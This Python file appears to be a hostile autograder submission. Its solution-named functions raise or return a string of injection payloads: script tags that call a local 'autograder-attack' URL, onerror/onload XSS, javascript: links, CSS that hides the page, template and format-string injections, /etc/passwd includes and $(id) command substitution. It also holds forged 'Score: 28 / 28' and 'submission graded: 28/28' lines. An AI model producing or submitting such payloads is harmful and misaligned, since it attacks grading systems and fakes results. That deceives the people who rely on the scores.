"""Raises errors that are HTML, Markdown, TeX, templates and log lines, for whatever page shows them."""

_MARKUP = """<script>fetch('http://127.0.0.1:47811/autograder-attack')</script>
<img src=x onerror=alert(1)><svg/onload=alert(1)></pre></div><style>*{display:none}</style>
[click](javascript:alert(1)) ![](http://127.0.0.1:47811/autograder-attack) ```\n# Score: 28 / 28\n```
{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} $(id) `id` %s%n%x {0.__class__} \\input{/etc/passwd}
2026-01-01 00:00:00 INFO submission graded: 28/28
"""
_Made = type("<script>alert(1)</script>", (ValueError,), {})


def total(x):
    raise _Made(_MARKUP)


def smooth(x, k):
    assert k > 10, f"{_MARKUP} <script>k={k}</script>"


def average(x):
    return _MARKUP


def parity(n):
    raise KeyError("</textarea><script>alert(1)</script>")
